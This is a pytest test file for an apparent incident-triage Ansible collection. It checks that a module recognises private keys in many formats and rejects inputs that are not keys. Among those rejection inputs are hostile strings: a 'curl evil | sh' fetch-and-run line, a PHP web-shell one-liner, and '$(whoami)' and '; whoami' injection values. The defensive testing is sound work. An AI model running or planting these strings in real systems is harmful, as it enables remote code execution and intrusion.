# Copyright (c) 2026, the csirt.linux_triage authors
# GNU General Public License v3.0-or-later (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import base64
import os
import struct
import subprocess
import time

import pytest
from ansible_collections.csirt.linux_triage.plugins.module_utils._core._private_keys import (
    LARGEST,
    describe,
    fingerprint,
    looks_like_private_key,
    public_blob,
)

PUTTY = b"""PuTTY-User-Key-File-3: ssh-ed25519
Encryption: aes256-cbc
Comment: ed25519-key-20261123
Public-Lines: 2
AAAAC3NzaC1lZDI1NTE5AAAAIPosBkbYVjkOH2nh0PpAXHPg6VPbPMzNbJkMPtlc
pkNO
Key-Derivation: Argon2id
Argon2-Memory: 8192
Argon2-Passes: 13
Argon2-Parallelism: 1
Argon2-Salt: 00112233445566778899aabbccddeeff
Private-Lines: 1
AAAAIA0kd2Xb7gyQ/jMbXfwzxWtCUJiG0q3gvJFGdEFLOrHX
Private-MAC: 00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff
"""


def _run(*command):
    try:
        with open(os.devnull, "wb") as nothing:
            subprocess.check_call(command, stderr=nothing, stdout=nothing)
    except OSError as error:
        pytest.skip("%s: %s" % (command[0], error.strerror))


def _bytes(path):
    with open(str(path), "rb") as stream:
        return stream.read()


def _der(tag, *contents):
    data = b"".join(contents)
    if len(data) < 0x80:
        return struct.pack("BB", tag, len(data)) + data
    return struct.pack(">BBH", tag, 0x82, len(data)) + data


def _pem(label, data, headers=b""):
    text = base64.b64encode(data)
    lines = [text[start : start + 64] for start in range(0, len(text), 64)]
    return (
        b"-----BEGIN %s-----\n".replace(b"%s", label)
        + headers
        + b"\n".join(lines)
        + b"\n-----END "
        + label
        + b"-----\n"
    )


def _strings(*fields):
    return b"".join(struct.pack(">I", len(field)) + field for field in fields)


KEY = _pem(b"RSA PRIVATE KEY", _der(0x30, b"\2\1\0", b"\2\x82\1\0" + b"\x55" * 256))
CERTIFICATE = _pem(b"CERTIFICATE", _der(0x30, b"\2\1\0"))


@pytest.mark.parametrize("passphrase", ["", "pass phrase"])
@pytest.mark.parametrize("form,expected", [("RFC4716", "OpenSSH"), ("PEM", "PEM"), ("PKCS8", "PKCS#8")])
@pytest.mark.parametrize("kind,bits", [("rsa", "1024"), ("ecdsa", "256")])
def test_keys_of_openssh(tmpdir, kind, bits, form, expected, passphrase):
    path = str(tmpdir / "key")
    _run("ssh-keygen", "-q", "-t", kind, "-b", bits, "-m", form, "-N", passphrase, "-f", path)
    (found,) = describe(_bytes(path))
    assert (found.format, found.encrypted) == (expected, bool(passphrase))
    shown = fingerprint(public_blob(_bytes(path + ".pub")))
    assert shown.encode("ascii") in subprocess.check_output(["ssh-keygen", "-l", "-f", path + ".pub"])
    assert found.fingerprint in ((shown,) if form == "RFC4716" else (None,))
    assert not looks_like_private_key(_bytes(path + ".pub"))


def test_keys_of_openssl_with_what_stands_beside_them(tmpdir):
    key, certificate, bag = str(tmpdir / "key"), str(tmpdir / "crt"), str(tmpdir / "p12")
    _run(
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        key,
        "-out",
        certificate,
        "-subj",
        "/CN=a",
    )
    assert looks_like_private_key(_bytes(key)) and not looks_like_private_key(_bytes(certificate))
    assert looks_like_private_key(_bytes(certificate) + b"\r\n# our key, 2026\r\n" + _bytes(key))
    _run(
        "openssl",
        "pkcs12",
        "-export",
        "-inkey",
        key,
        "-in",
        certificate,
        "-name",
        "a b",
        "-passout",
        "pass:x",
        "-out",
        bag,
    )
    _run("openssl", "pkcs12", "-in", bag, "-passin", "pass:x", "-nodes", "-out", key)
    assert b"friendlyName" in _bytes(key) and looks_like_private_key(_bytes(key))


def test_elliptic_curve_with_parameters(tmpdir):
    path = str(tmpdir / "key")
    _run("openssl", "ecparam", "-name", "prime256v1", "-genkey", "-out", path)
    assert [key.type for key in describe(_bytes(path))] == ["ecdsa"]


def test_keys_of_gnupg_by_their_first_packet():
    assert describe(_pem(b"PGP PRIVATE KEY BLOCK", b"\x95\x03rest", b"Version: x\n\n"))[0].format == "OpenPGP"
    assert not describe(_pem(b"PGP PRIVATE KEY BLOCK", b"\x99\x03rest"))


def test_keys_of_putty():
    (found,) = describe(PUTTY)
    assert found[:3] == ("PuTTY", "ssh-ed25519", True) and found.fingerprint.startswith("SHA256:")
    assert describe(PUTTY.replace(b"\n", b"\r\n")) == [found]
    assert not describe(PUTTY.replace(b"ed25519-key-20261123", b"<?php system($_GET[1]); ?>"))
    assert not describe(PUTTY + b"curl evil | sh\n")


def test_keys_of_dropbear():
    (found,) = describe(_strings(b"ssh-ed25519", b"s" * 32 + b"p" * 32))
    assert found == ("dropbear", "ssh-ed25519", False, fingerprint(_strings(b"ssh-ed25519", b"p" * 32)))
    public = b"ssh-rsa", b"\1\0\1", b"n" * 257
    assert describe(_strings(*(public + (b"d", b"p", b"q"))))[0].fingerprint == fingerprint(_strings(*public))
    assert not describe(_strings(*public))
    assert not describe(_strings(*(public + (b"x" * 4000, b"p", b"q"))))


def test_keys_of_ssh_com():
    body = _strings(b"type", b"none", b"data")
    data = b"\x3f\x6f\xf9\xeb" + struct.pack(">I", len(body) + 8) + body
    text = (
        b'---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\nComment: "a\\\nb"\n'
        + base64.b64encode(data)
        + b"\n---- END SSH2 ENCRYPTED PRIVATE KEY ----\n"
    )
    assert describe(text)[0][:3] == ("ssh.com", None, False)


def test_encrypted_in_the_old_way():
    headers = b"Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00112233\n\n"
    (found,) = describe(_pem(b"RSA PRIVATE KEY", b"\x17" * 64, headers))
    assert found == ("PEM", "ssh-rsa", True, None)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\0",
        b"ls\n",
        CERTIFICATE,
        b"-----BEGIN RSA PRIVATE KEY-----\n",
        b"-----BEGIN RSA PRIVATE KEY-----\nwhoami\n-----END RSA PRIVATE KEY-----\n",
        b"whoami\n" + KEY,
        KEY + b"whoami\n",
        KEY + b"# $(whoami)\n",
        KEY + b"#<?php x() ?>\n",
        KEY.replace(b"RSA PRIVATE KEY-----\n", b"RSA PRIVATE KEY-----\nComment: ; whoami\n", 1),
        KEY.replace(b"END RSA", b"END DSA"),
        KEY.replace(b"\nMII", b"\nMIJ"),
        _pem(b"RSA PRIVATE KEY", _der(0x04, b"whoami")),
        _pem(b"RSA PRIVATE KEY", _der(0x30, b"\2\1\0") + b"more"),
        _pem(b"OPENSSH PRIVATE KEY", b"openssh-key-v1\0" + b"whoami" * 20),
        KEY + PUTTY,
        KEY + b"ssh-ed25519 AAAA evil\n",
        KEY * 300,
    ],
)
def test_what_is_no_key_is_not_held_back(data):
    assert not looks_like_private_key(data)


def test_several_keys_in_one_file():
    assert len(describe(CERTIFICATE + KEY + b"\n" + KEY)) == 2


def test_no_input_takes_long():
    for piece in (
        b"-----BEGIN RSA PRIVATE KEY-----\n",
        b"A\n",
        b"# \n",
        b"Comment: \\\n",
        b" 1.1.1",
        b"\0\0\0\7ssh-rsa",
    ):
        data = (b"-----BEGIN RSA PRIVATE KEY-----\n" + piece * LARGEST)[:LARGEST]
        start = time.time()
        describe(data)
        describe(b"PuTTY-User-Key-File-3: a\nEncryption: none\nPublic-Lines: 1\n" + (piece * LARGEST)[: LARGEST - 99])
        assert time.time() - start < 2
